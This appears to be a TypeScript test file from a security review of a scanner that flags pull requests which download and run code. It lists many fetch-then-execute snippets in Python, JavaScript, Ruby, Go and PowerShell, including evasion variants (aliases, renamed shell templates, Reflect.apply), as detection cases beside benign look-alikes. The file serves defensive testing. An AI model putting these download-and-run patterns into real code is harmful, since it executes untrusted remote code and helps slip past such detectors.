import { describeAccepted, describeFindings, type FindingRow } from '../support/patches.js';

// Review of session 67 (branch safety67), as an attacker after a fix PR that runs a download or leaks a secret. Each
// finding's rows were written first and failed (`it.fails`); a row fixed in this review is listed as closed, a row left
// open stays `it.fails` with the reason.

const closed = (rows: readonly FindingRow[]): FindingRow[] => rows.map(([path, text]) => [path, text, 'closed']);

/**
 * R67-1 (High): fetched text held in a name and run on a later line. Session 67 called it "by design" (the approval's
 * warning), but the README refuses a download run (`exec(urlopen(…))`) and leaves to the warning only a download and a
 * run "that no file's name links"; here a name links them, as `s = b64decode(x)` then `exec(s)` links a decoder's output
 * to a sink, which attack 51 already refuses. A fix PR that runs what it downloads is what the product promises never to open.
 */
const FETCHED_TEXT_RUN_LATER: FindingRow[] = [
  ['tests/t.py', 's = requests.get(u).text\nexec(s)'],
  ['tests/t.py', "s = urlopen(u).read()\nsubprocess.run(['sh', '-c', s])"],
  ['tests/t.py', 'r = requests.get(u)\ncode = r.text\nexec(code)'],
  ['tests/t.py', 'r = requests.get(u)\nexec(r.text)'],
  ['tests/t.py', 'with urlopen(u) as r:\n    src = r.read()\nexec(src)'],
  ['tests/x.test.js', 'const s = await (await fetch(u)).text();\neval(s);'],
  ['tests/x.test.js', 'const res = await fetch(u);\nconst s = await res.text();\nexecSync(s);'],
  ['tests/x.test.js', 'const { data } = await axios.get(u);\nnew Function(data)();'],
  ['tests/t.rb', 's = URI.open(u).read\neval(s)'],
  ['docs/debugging.md', '```powershell\n$s = (iwr https://x.example/a.ps1).Content\niex $s\n```'],
];

/**
 * R67-2 (High): a download bound by forms next to session 67's: the callee in parentheses, `with (… as p)` and `with …
 * as (p)`, a `for` over a call of the downloads (`enumerate([…])`, `map(download_file, …)`).
 */
const DOWNLOAD_BOUND_OTHERWISE: FindingRow[] = [
  ['tests/t.py', "p, _ = (download_file(u))\nsubprocess.run(['sh', p])"],
  ['tests/t.py', "with download_file(u) as (p):\n    subprocess.run(['sh', p])"],
  ['tests/t.py', "with (download_file(u) as p):\n    subprocess.run(['sh', p])"],
  ['tests/t.py', "with (\n    download_file(u) as p,\n):\n    subprocess.run(['sh', p])"],
  ['tests/t.py', "for i, p in enumerate([download_file(u)]):\n    subprocess.run(['sh', p])"],
  ['tests/t.py', "for p in map(download_file, [u]):\n    subprocess.run(['sh', p])"],
];

/**
 * R67-3 (High): process calls next to session 67's: Ruby's `%x` with any other delimiter (`%x<…>`, `%x|…|`, `%x!…!`),
 * `Open3.pipeline*`; a tagged template other than `$` (zx's `$` renamed, `const sh = $({…})`, execa's template form,
 * `` $ `…` `` with a blank).
 */
const PROCESS_CALLS_OTHERWISE: FindingRow[] = [
  ['tests/t.rb', 'p = download_file(u)\nout = %x<sh #{p}>'],
  ['tests/t.rb', 'p = download_file(u)\nout = %x|sh #{p}|'],
  ['tests/t.rb', 'p = download_file(u)\nout = %x!sh #{p}!'],
  ['tests/t.rb', 'p = download_file(u)\nOpen3.pipeline_r(["sh", p]) { |o, ts| o.read }'],
  ['tests/x.test.js', 'const p = await download(u);\nawait $ `sh ${p}`;'],
  ['tests/x.test.js', "const p = await download(u);\nconst sh = $({ stdio: 'inherit' });\nawait sh`sh ${p}`;"],
  ['tests/x.test.js', "const p = await download(u);\nconst { $: run } = require('zx');\nawait run`sh ${p}`;"],
  ['tests/x.test.js', "const p = await download(u);\nimport { $ as run } from 'zx';\nawait run`sh ${p}`;"],
  ['tests/x.test.js', 'const p = await download(u);\nawait execa`sh ${p}`;'],
];

/**
 * R67-4 (High): aliases and names handed on next to session 67's: an alias of an alias (`const r = m.get('r')`), `?.` on
 * a member (`o?.r?.(p)`), a line comment in a renaming destructuring, a chained copy (`q = r = p`), Go's
 * `os.StartProcess` and `&exec.Cmd{…}` (session 67's open row).
 */
const ALIASES_OTHERWISE: FindingRow[] = [
  ['tests/x.test.js', "const p = await download(u);\nconst m = new Map([['r', require]]);\nconst r = m.get('r');\nr(p);"],
  ['tests/x.test.js', 'const p = await download(u);\nconst o = { r: require };\no?.r?.(p);'],
  ['tests/x.test.js', "const p = await download(u);\nconst { execSync: // x\n  go } = require('child_process');\ngo(`sh ${p}`);"],
  ['tests/x.test.js', "const p = await download(u);\nconst run = execSync;\nconst go = run;\ngo(`sh ${p}`);"],
  ['tests/t.py', "p = download_file(u)\nq = r = p\nsubprocess.run(['sh', r])"],
  ['tests/t_test.go', 'p, _ := downloadFile(u)\nos.StartProcess("/bin/sh", []string{"sh", p}, &os.ProcAttr{})'],
  ['tests/t_test.go', 'p, err := downloadFile(u)\ncmd := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh", p}}\ncmd.Run()'],
];

/**
 * Open (R67-4's rest, for time): a runner called through `.apply` or `Reflect.apply` (the arguments are an array after a
 * receiver), `_load` renamed by a destructuring, Go's `cmd.Args = append(cmd.Args, p)` (a field of a command built apart).
 */
const ALIASES_OPEN: FindingRow[] = [
  ['tests/x.test.js', 'const p = await download(u);\nconst o = { r: require };\no.r.apply(null, [p]);'],
  ['tests/x.test.js', 'const p = await download(u);\nReflect.apply(require, null, [p]);'],
  ['tests/x.test.js', "const p = await download(u);\nconst { _load: ld } = require('module');\nld(p);"],
  ['tests/t_test.go', 'p, err := downloadFile(u)\ncmd := exec.Command("sh")\ncmd.Args = append(cmd.Args, p)\ncmd.Run()'],
];

describeFindings('review 67', [
  ['R67-1 fetched text held in a name and run later', closed(FETCHED_TEXT_RUN_LATER)],
  ['R67-2 a download bound otherwise', closed(DOWNLOAD_BOUND_OTHERWISE)],
  ['R67-3 process calls otherwise', closed(PROCESS_CALLS_OTHERWISE)],
  ['R67-4 aliases and names handed on otherwise', closed(ALIASES_OTHERWISE)],
  ['R67-4 open', ALIASES_OPEN],
]);

describeAccepted('review 67: ordinary code near its fixes', [
  // R67-1: a response read as data, a regular expression's exec, a body handed to a child as its environment.
  ['tests/t.py', "r = requests.get(u)\nassert r.status_code == 200\ndata = r.json()\nassert data['ok']\nsubprocess.run(['make', 'test'], check=True)"],
  ['tests/x.test.js', "const res = await fetch(`${base}/health`);\nconst body = await res.text();\nexpect(body).toContain('ok');\nconst m = /version (\\d+)/.exec(body);\nexecSync('npm run build');"],
  ['tests/t.py', "resp = client.get('/api/items')\nitems = resp.json()\nos.system('make lint')\nsubprocess.run(['pytest', '-q', 'tests/'])"],
  ['tests/x.test.js', "const res = await request(app).get('/');\nexecSync('npm run lint', { env: { ...process.env, BODY: res.text } });"],
  ['tests/t.py', "with urlopen(u) as r:\n    data = json.load(r)\nassert data['ok']\nsubprocess.run(['make'])"],
  // R67-2 to R67-4: other `with` and `for` forms, templates that are no tag's, tags given no download, a call's result.
  ['tests/t.py', "with (open('a.txt') as f, open('b.txt') as g):\n    g.write(f.read())\nfor i, name in enumerate(names):\n    subprocess.run(['black', name])"],
  ['tests/x.test.js', "const p = await download(u);\nconsole.log(`saved ${p}`);\nconst msg = `at ${p}`;\nexpect(fs.existsSync(p)).toBe(true);"],
  ['tests/x.test.js', 'function where(p) {\n  return `saved ${p}`;\n}\nconst q = sql`SELECT * FROM t WHERE id = ${id}`;\nconst h = html`<p>${name}</p>`;'],
  ['tests/x.test.js', "const p = await download(u);\nconst run = execSync;\nconst out = run('git status');\nexpect(out.includes('clean')).toBe(true);\nexpect(fs.statSync(p).size).toBeGreaterThan(0);"],
  ['tests/t.py', "a = b = 0\np = download_file(u)\nassert os.path.getsize(p) > 0\nsubprocess.run(['make', 'test'])"],
  ['tests/t_test.go', 'cmd := &exec.Cmd{Path: "/usr/bin/git", Args: []string{"git", "status"}}\nif err := cmd.Run(); err != nil {\n\tt.Fatal(err)\n}'],
]);
